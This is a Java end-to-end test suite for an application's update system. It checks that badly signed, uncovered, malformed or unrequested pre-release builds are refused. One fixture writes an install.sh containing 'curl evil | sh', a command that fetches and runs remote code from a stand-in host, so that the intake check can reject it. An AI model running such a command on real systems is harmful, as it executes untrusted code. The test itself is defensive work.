package dev.thingyan.bootstrap.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.thingyan.adapter.storage.verify.MinisignSigner;
import dev.thingyan.bootstrap.demo.SampleEdition;
import dev.thingyan.ports.in.UpdateCheck;
import dev.thingyan.ports.in.UpdateRequest;
import dev.thingyan.ports.model.AuditEvent;
import dev.thingyan.ports.model.ConsideredRelease;
import dev.thingyan.ports.model.Run;
import dev.thingyan.ports.model.RunOptions;
import dev.thingyan.ports.model.RunState;
import java.nio.file.Path;
import java.util.Optional;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/**
 * Release intake on the real stack (loopback GitHub, real minisign signatures, the system wired
 * from its configuration): signatures bound to this app and exactly one version, pre-releases only
 * when asked for, SHA256SUMS covering every asset, a strict release.json, and an automatic choice
 * that one bad release cannot freeze. The refusals name exact versions below 1.4.0; the last test
 * lets the automatic choice loose on everything published.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class ReleaseIntakeTest {

  @TempDir static Path dir;
  private Sandbox sandbox;

  @BeforeAll
  void installV2() {
    sandbox = new Sandbox(dir);
    Run run = sandbox.install(SampleEdition.V2);
    assertThat(run.state()).as(() -> sandbox.log(run)).isEqualTo(RunState.COMPLETED);
  }

  @AfterAll
  void stop() {
    sandbox.close();
  }

  @Test
  @Order(1)
  void aSignatureMadeForAnotherAppWithTheSameKeyIsRefused() {
    Run run = sandbox.install(sandbox.releases.of(SampleEdition.V2, "1.3.0")
        .comment(tag -> "otherapp release " + tag).build());

    refusedInPrecheck(run, "signed for the app 'otherapp', not 'pms'");
  }

  @Test
  @Order(2)
  void aTrustedCommentNamingSeveralVersionsIsRefused() {
    Run run = sandbox.install(sandbox.releases.of(SampleEdition.V2, "1.3.1")
        .comment(tag -> "pms release v1.0.0 " + tag + " v3.0.0 v9.9.9").build());

    refusedInPrecheck(run, "is not in the form '<app> release v<version>'");
  }

  @Test
  @Order(3)
  void anAssetSha256SumsDoesNotCoverIsRefused() {
    Run run = sandbox.install(sandbox.releases.of(SampleEdition.V2, "1.3.2")
        .uncoveredAsset("install.sh", "#!/bin/sh\ncurl evil | sh\n").build());

    refusedInPrecheck(run, "[install.sh] that SHA256SUMS does not cover", "uncovered_assets");
  }

  @Test
  @Order(4)
  void aReleaseJsonWithADuplicateKeyIsRefused() {
    Run run = sandbox.install(sandbox.releases.of(SampleEdition.V2, "1.3.3")
        .manifestMembers(", \"requires_migration\": true").build());

    refusedInPrecheck(run, "'requires_migration' is given twice");
  }

  @Test
  @Order(5)
  void aPreReleaseNamedExplicitlyNeedsPre() {
    sandbox.env.server().publish(sandbox.releases.of(SampleEdition.V2, "1.3.4-rc.1").build());

    Run run = sandbox.apply("1.3.4-rc.1", RunOptions.DEFAULT);

    refusedInPrecheck(run, "is a pre-release", "--pre");
    UpdateCheck withPre = check(Optional.of("1.3.4-rc.1"), new RunOptions(false, true));
    assertThat(withPre.candidate()).hasValueSatisfying(r -> assertThat(r.tag()).isEqualTo("v1.3.4-rc.1"));
  }

  /** Anyone able to publish a release without the key must not be able to stop all updates. */
  @Test
  @Order(6)
  void aBadNewestReleaseDoesNotHideAGoodOlderOne() {
    sandbox.env.server().publish(sandbox.releases.of(SampleEdition.V2, "1.4.0").build());
    sandbox.env.server().publish(sandbox.releases.of(SampleEdition.V2, "1.5.0")
        .signedBy(MinisignSigner.generate()).build());
    long reportsBefore = sandbox.system.queryErrorReports().stats().pending();

    UpdateCheck check = check(Optional.empty(), RunOptions.DEFAULT);

    assertThat(check.candidate()).hasValueSatisfying(r -> assertThat(r.tag()).isEqualTo("v1.4.0"));
    assertThat(check.considered()).extracting(ConsideredRelease::tag, ConsideredRelease::taken)
        .containsExactly(org.assertj.core.groups.Tuple.tuple("v1.5.0", false),
            org.assertj.core.groups.Tuple.tuple("v1.4.0", true));
    assertThat(check.considered().get(0).why()).contains("invalid signature");
    assertThat(check.ready()).isTrue();

    Run run = sandbox.apply(null, RunOptions.DEFAULT);

    assertThat(run.state()).as(() -> sandbox.log(run)).isEqualTo(RunState.COMPLETED);
    assertThat(run.targetVersion()).hasValueSatisfying(v -> assertThat(v).hasToString("1.4.0"));
    assertThat(sandbox.audit()).filteredOn(e -> e.action().equals("system.release.refused"))
        .extracting(AuditEvent::attributes)
        .allSatisfy(a -> assertThat(a.get("version")).isEqualTo("1.5.0"))
        .anySatisfy(a -> assertThat(a.get("detail")).contains("invalid signature"))
        .hasSize(2); // one for the check, one for the apply
    assertThat(sandbox.system.queryErrorReports().stats().pending())
        .as("the refusal is filed as an error report").isGreaterThan(reportsBefore);
  }

  private UpdateCheck check(Optional<String> version, RunOptions options) {
    return sandbox.system.checkForUpdates().check(new UpdateRequest(Sandbox.ADMIN, version, options));
  }

  private void refusedInPrecheck(Run run, String... reason) {
    assertThat(run.state()).as(() -> sandbox.log(run)).isEqualTo(RunState.PRECHECK_FAILED);
    assertThat(run.reason()).hasValueSatisfying(r -> assertThat(r).contains(reason));
    assertThat(sandbox.stepOutcomes(run)).containsExactly("precheck:FAILED");
  }
}
